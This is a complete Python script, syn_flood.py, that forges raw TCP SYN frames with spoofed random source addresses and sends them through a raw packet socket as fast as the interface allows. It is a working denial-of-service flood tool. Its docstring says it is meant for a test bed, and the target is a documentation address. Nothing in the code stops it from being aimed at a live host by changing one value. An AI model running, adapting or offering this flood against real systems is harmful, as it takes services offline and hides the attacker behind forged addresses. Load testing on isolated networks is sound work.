#!/usr/bin/env python3
"""syn_flood.py INTERFACE TO-MAC COUNT: SYNs from as many addresses, as fast as a socket takes them.

For the test bed alone: it sends where its namespace leads, which is nowhere but there.
"""
import random
import socket
import struct
import sys


def frame(mac, number, rng):
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, number & 0xffff, 0, 64, 6, 0,
                     struct.pack(">I", 0x0a000000 | rng.getrandbits(24)), bytes((192, 0, 2, 1)))
    tcp = struct.pack(">HHIIBBHHH", rng.randrange(1024, 65536), 80, rng.getrandbits(32), 0, 5 << 4, 2, 1024, 0, 0)
    return mac + b"\2\0\0\0\0\2" + b"\x08\0" + ip + tcp


def main():
    interface, mac, count = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
    rng = random.Random(1)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as port:
        port.bind((interface, 0))
        for number in range(count):
            try:
                port.send(frame(mac, number, rng))
            except OSError:  # the queue is full: that is what a flood does
                pass


if __name__ == "__main__":
    main()
